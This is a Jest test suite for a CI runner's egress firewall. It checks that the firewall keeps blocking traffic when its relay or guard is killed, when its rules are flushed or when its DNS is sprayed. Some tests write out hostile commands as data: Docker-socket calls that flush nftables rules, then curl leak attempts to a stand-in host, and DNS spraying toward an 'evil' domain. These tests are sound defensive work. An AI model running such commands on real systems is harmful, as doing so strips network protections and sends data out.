import { readFileSync } from 'node:fs'
import { afterEach, beforeEach, describe, expect, it } from '@jest/globals'
import { waitUntil } from '../support/wait-until.ts'
import { findObstacle } from './harness/requirements.ts'
import { askAllowed, CERTIFICATES, runScript, tryToLeak } from './harness/try-out.ts'
import { createWorld, type World } from './harness/world.ts'
import { RELAY_UID, SIDECAR_UID, startEnforced } from './levels/enforced.ts'
import { EMPTY_POLICY, POLICY } from './levels/policy.ts'

/** What becomes of the enforced level when its parts are harmed, and what is left when the job ends. A world for each. */
const suite = findObstacle() === undefined ? describe : describe.skip
const LIMIT_MS = 180_000

/** Prints the address of an allowed name, as the machine's resolver gives it to each of twenty ports. */
const ASK_FROM_PORTS = `
import socket
name = b''.join(bytes([len(part)]) + part for part in b'allowed.example.com'.split(b'.'))
for port in range(40000, 40020):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.bind(('127.0.0.1', port))
        s.settimeout(3)
        try:
            s.sendto(bytes([7, port & 255, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]) + name + bytes([0, 0, 1, 0, 1]), ('127.0.0.53', 53))
            print('.'.join(str(byte) for byte in s.recv(512)[-4:]))
        except OSError as error:
            print(error)
`

suite('the enforced level', () => {
  let world: World
  beforeEach(async () => {
    world = await createWorld()
  }, LIMIT_MS)
  afterEach(() => world.close())

  const processesOf = async (uid: number): Promise<string[]> =>
    (await world.machine.root(`pgrep -u ${uid} || true`)).output
      .trim()
      .split('\n')
      .filter((line) => line !== '')

  const asRunner = (line: string): Promise<{ code: number | null; output: string }> =>
    world.machine.start(['bash', '-c', line], { user: 'runner', environment: CERTIFICATES }).outcome

  it(
    'lets nothing pass while its relay is dead, and has another within a second',
    async () => {
      const level = await startEnforced(world)
      const before = await processesOf(RELAY_UID)
      await world.machine.root(`kill -9 ${before.join(' ')}`)
      const killed = performance.now()
      const leaks = tryToLeak(world, level)
      await waitUntil('the relay answers again', async () => (await askAllowed(world)).includes('outside'))
      const backAfter = performance.now() - killed
      expect({ leaks: await leaks, isSoon: backAfter < 1000 ? true : backAfter }).toEqual({ leaks: [], isSoon: true })
      expect(await processesOf(RELAY_UID)).not.toEqual(before)
    },
    LIMIT_MS,
  )

  it(
    'shows the runner’s user on the status page what it blocked, and other users nothing',
    async () => {
      const level = await startEnforced(world)
      await asRunner('curl -sk --max-time 2 https://blocked.example.net/ || true')
      const page = `curl -s ${level.managementUrl}/status.json`
      await waitUntil('the host is on the page', async () =>
        (await asRunner(page)).output.includes('blocked.example.net'),
      )
      const status = JSON.parse((await asRunner(page)).output) as { firewall: unknown }
      expect(status.firewall).toMatchObject({ level: 'enforced', mode: 'block', digest: { isPartial: false } })
      const nobody = `setpriv --reuid=65534 --regid=65534 --clear-groups ${page}`
      expect((await world.machine.root(nobody)).output).toBe('This page is for the user of the runner.')
    },
    LIMIT_MS,
  )

  it(
    'lets nobody else answer in the place of its dead relay',
    async () => {
      const level = await startEnforced(world)
      const relay = (await processesOf(RELAY_UID)).join(' ')
      const list = `ss -Hltnp | grep -E 'pid=(${relay.replaceAll(' ', '|')}),' | sed -E 's/.*:([0-9]+) +[^ ]*:.*/\\1/' | sort -u`
      const ports = (await world.machine.root(list)).output.trim().split('\n')
      expect(ports.length).toBeGreaterThan(1)
      const taking = world.machine.start(['attack', 'take', ...ports], {
        user: 'runner',
        environment: { STAGE: '/mnt/stage' },
      })
      await taking.says('waiting')
      await world.machine.root(`kill -9 ${relay}`)
      expect(await tryToLeak(world, level)).toEqual([])
      expect((await taking.outcome).output).toContain('took')
      await waitUntil('a relay answers again', async () => (await askAllowed(world)).includes('outside'))
      expect(await tryToLeak(world, level)).toEqual([])
    },
    LIMIT_MS,
  )

  it(
    'goes on finding allowed hosts after somebody has asked its name server from every port',
    async () => {
      const spray = async (): Promise<void> => {
        const command = ['attack', 'reuse', '45.67.0.53', 'spray.evil.example.net']
        await world.machine.start(command, { user: 'runner', environment: CERTIFICATES }).outcome
      }
      await spray()
      await startEnforced(world)
      await spray()
      expect(await askAllowed(world)).toContain('outside')
    },
    LIMIT_MS,
  )

  it(
    'answers lookups also from ports that had asked the machine’s resolver before the start',
    async () => {
      const ask = async (): Promise<string[]> => {
        const { output } = await world.machine.start(['python3', '-c', ASK_FROM_PORTS], {
          user: 'runner',
          environment: {},
        }).outcome
        return output.trim().split('\n')
      }
      expect(await ask()).toEqual(Array(20).fill(expect.stringMatching(/^\d+\.\d+\.\d+\.\d+$/)))
      // With a flow from each of its own ports the resolver could not ask any more.
      const spray = ['attack', 'reuse', '45.67.0.53', 'spray.evil.example.net']
      await world.machine.start(spray, { user: 'runner', environment: CERTIFICATES }).outcome
      await startEnforced(world)
      expect(await ask()).toEqual(Array(20).fill(expect.stringMatching(/^198\.1[89]\.\d+\.\d+$/)))
    },
    LIMIT_MS,
  )

  it(
    'ends a process that would outlive the job, also when that process has ended the job itself',
    async () => {
      const level = await startEnforced(world)
      expect(
        await runScript(world, level, `kill -9 ${level.runner.pid}; sleep 3; curl -sk -m 6 https://$V4/$MARKER`),
      ).toEqual([])
    },
    LIMIT_MS,
  )

  it(
    'stays closed when its guard is killed: rules and locked privileges remain',
    async () => {
      const level = await startEnforced(world)
      await world.machine.root(`kill -9 ${level.ready.guardPid}`)
      expect(await tryToLeak(world, level)).toEqual([])
      expect((await asRunner('sudo -n true')).code).not.toBe(0)
      expect(
        await runScript(world, level, 'attack unix /run/docker.sock "nft flush ruleset; curl -sk https://$V4/$MARKER"'),
      ).toEqual([])
    },
    LIMIT_MS,
  )

  it(
    'gives everything back when the process of the job is gone',
    async () => {
      const state = async () => ({
        rules: (await world.machine.root('nft list ruleset')).output,
        mounts: (await world.machine.root('cut -d" " -f4- /proc/self/mountinfo | sort')).output,
        sockets: (await world.machine.root('stat -c "%n %a %u %g" /run/docker.sock /run/lxd/unix.socket')).output,
        sudoers: (await world.machine.root('ls -la --time-style=+ /etc/sudoers.d | tail -n +2; cat /etc/sudoers'))
          .output,
        routes: (await world.machine.root('ip -4 route show table all; ip -6 route show | grep -v fe80')).output,
        sudo: (await asRunner('sudo -n true')).code,
      })
      const before = await state()
      const level = await startEnforced(world)
      expect(await state()).not.toEqual(before)
      await level.endJob()
      expect(await state()).toEqual(before)
      expect([...(await processesOf(RELAY_UID)), ...(await processesOf(SIDECAR_UID))]).toEqual([])
      expect(await tryToLeak(world, level)).not.toEqual([])
    },
    LIMIT_MS,
  )

  it.each([
    [
      'its table is deleted',
      'nft list tables | grep -v docker-model | while read -r _ f t; do nft delete table $f $t; done',
    ],
    ['all rules are flushed', 'nft flush ruleset'],
  ])(
    'comes back when %s',
    async (_title, line) => {
      const level = await startEnforced(world)
      const tables = async (): Promise<string> =>
        (await world.machine.root('nft list tables | grep -v docker-model')).output
      const before = await tables()
      await world.machine.root(line)
      await waitUntil('the table is back', async () => (await tables()) === before)
      expect(await tryToLeak(world, level)).toEqual([])
      expect(await askAllowed(world)).toContain('outside')
    },
    LIMIT_MS,
  )

  it(
    'keeps a model working when the list of the user is empty',
    async () => {
      const level = await startEnforced(world, EMPTY_POLICY)
      const ask = `curl -sS -m 5 -H "authorization: Bearer ${level.environment.MODELTOKEN}" -H "content-type: application/json" -d '{}' ${level.environment.MODEL}/responses`
      expect((await asRunner(ask)).output).toContain('model-answer')
      expect(await askAllowed(world)).not.toContain('outside')
      expect(await tryToLeak(world, level)).toEqual([])
    },
    LIMIT_MS,
  )

  it(
    'audits: lets pass what it would block, but no lookup',
    async () => {
      const level = await startEnforced(world, { ...POLICY, mode: 'audit' })
      expect(await runScript(world, level, 'curl -sk -m 3 https://$V4/$MARKER')).not.toEqual([])
      expect(await runScript(world, level, 'curl -s -m 3 http://$V4:8080/$MARKER')).not.toEqual([])
      expect(await runScript(world, level, 'attack dns 45.67.0.53 $NAME; getent hosts $NAME')).toEqual([])
    },
    LIMIT_MS,
  )

  it(
    'logs who wanted out: host, program and reason',
    async () => {
      const level = await startEnforced(world)
      // It stays a while: who is gone at once may be gone before anybody could look.
      await world.machine.start(['attack', 'linger', 'refused.example.net', '45.67.99.9'], {
        user: 'runner',
        environment: CERTIFICATES,
      }).outcome
      const read = (): Record<string, unknown>[] =>
        readFileSync(`/proc/${world.machine.pid}/root${level.ready.logPath}`, 'utf8')
          .split('\n')
          .filter((line) => line !== '')
          .map((line) => JSON.parse(line) as Record<string, unknown>)
      await waitUntil(
        'both are in the log',
        async () => read().filter(({ verdict }) => verdict === 'blocked').length >= 2,
      )
      expect(read()).toEqual(
        expect.arrayContaining([
          expect.objectContaining({
            host: 'refused.example.net',
            port: 443,
            program: expect.stringContaining('python3'),
            uid: 1001,
            reason: 'not-allowed',
          }),
          expect.objectContaining({ address: '45.67.99.9', port: 9999, program: expect.stringContaining('python3') }),
        ]),
      )
    },
    LIMIT_MS,
  )
})
